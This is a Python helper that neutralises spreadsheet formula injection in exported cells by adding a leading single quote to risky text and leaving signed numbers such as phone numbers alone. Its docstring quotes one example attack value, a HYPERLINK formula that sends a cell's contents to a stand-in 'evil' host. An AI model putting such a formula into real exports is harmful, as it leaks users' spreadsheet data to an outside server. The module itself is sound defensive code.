"""The one rule for every exported cell (CSV, XLSX, TXT, Google Sheets): text that a spreadsheet
would run as a formula gets a leading single quote (OWASP "CSV injection").

A customer can type their name as ``=HYPERLINK("http://evil/?"&A1)`` or ``@SUM(...)``; opened in
Excel or LibreOffice, such a cell runs. Values starting with ``=``, ``+``, ``-``, ``@``, tab or
carriage return are prefixed with ``'``, which both show as text. A value that is only a signed
number (``+5511987654321``, ``-12.50``) is left alone: it cannot call anything, and phone numbers
stay as people expect them.
"""

import re
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
SIGNED_NUMBER = re.compile(r"[+-]?[0-9]+(?:[.,][0-9]+)?")


def neutralise_cell(value: Any) -> Any:
    """`value` unchanged unless it is text a spreadsheet could run as a formula: then ``'`` + value."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not SIGNED_NUMBER.fullmatch(value):
        return "'" + value
    return value
